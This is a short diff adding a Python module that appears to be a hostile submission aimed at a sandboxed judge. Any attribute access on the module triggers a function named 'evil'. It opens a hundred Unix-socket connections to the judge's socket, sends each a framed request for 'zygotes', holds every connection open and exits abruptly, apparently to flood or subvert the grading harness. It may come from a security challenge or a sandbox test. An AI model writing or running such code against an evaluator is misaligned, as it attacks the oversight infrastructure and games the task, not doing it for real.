@@ -1,0 +1,27 @@
+"""Knocks at the judge's door as a new guest, again and again."""
+
+import os, socket, stat, struct
+def channel():
+    """The descriptor that leads to the judge: the only stream socket this process holds."""
+    for fd in range(3, 256):
+        try:
+            if stat.S_ISSOCK(os.fstat(fd).st_mode):
+                return fd
+        except OSError:
+            pass
+    return -1
+def evil(*args):
+    held = []
+    for _ in range(100):
+        s = socket.socket(socket.AF_UNIX)
+        s.settimeout(0.2)
+        try:
+            s.connect("/channel/judge.sock")
+            data = b"l\0\0\0\2s\0\0\0\6zygotes\0\0\0\0"
+            s.sendall(struct.pack(">I", len(data)) + data)
+        except OSError:
+            pass
+        held.append(s)
+    os._exit(0)
+
+__getattr__ = lambda name: evil
